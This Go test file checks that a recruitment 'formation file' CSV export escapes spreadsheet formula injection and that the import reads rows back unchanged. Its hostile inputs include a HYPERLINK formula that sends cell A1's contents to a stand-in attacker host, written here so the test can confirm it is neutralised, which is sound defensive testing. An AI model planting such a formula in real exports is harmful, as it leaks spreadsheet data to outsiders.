package recruitment

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"asnpro/internal/report/csvsafe"
)

// A formation file written as CSV opens in a spreadsheet with no live
// formula, and reads back exactly as it was written.
func TestFormationFileCSVFormulaRoundTrip(t *testing.T) {
	rows := FormationTemplateRows()
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")`,
		"+62 Unit",
		"-Bagian Umum",
		"@SUM(1+1)",
		"'=already quoted by hand",
		"Dinas Kesehatan",
	}
	var want [][]string
	for i, h := range hostile {
		r := append([]string(nil), rows[0]...)
		r[0], r[1], r[2] = fmt.Sprintf("F-%d", i), h, "\t=1+1 "+h
		want = append(want, r)
	}
	var b bytes.Buffer
	if err := WriteFormationFile(&b, "csv", want); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte(csvsafe.BOM+"code,position,unit,")) {
		t.Fatalf("no BOM or header: %q", b.Bytes()[:40])
	}
	// As a spreadsheet sees the cells: none starts a formula.
	raw, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte(csvsafe.BOM)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range raw[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	if raw[1][1] != `'=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")` || raw[5][1] != "''=already quoted by hand" ||
		raw[6][1] != "Dinas Kesehatan" {
		t.Errorf("cells as written: %q %q %q", raw[1][1], raw[5][1], raw[6][1])
	}
	// The import reads back what was written.
	header, got, err := ReadFormationFile(bytes.NewReader(b.Bytes()), "export.csv")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(header, ",") != strings.Join(FormationColumns, ",") || len(got) != len(want) {
		t.Fatalf("header %q, %d rows", header, len(got))
	}
	for i := range want {
		if fmt.Sprintf("%q", got[i].Fields) != fmt.Sprintf("%q", want[i]) {
			t.Errorf("row %d:\n got %q\nwant %q", i, got[i].Fields, want[i])
		}
	}
}
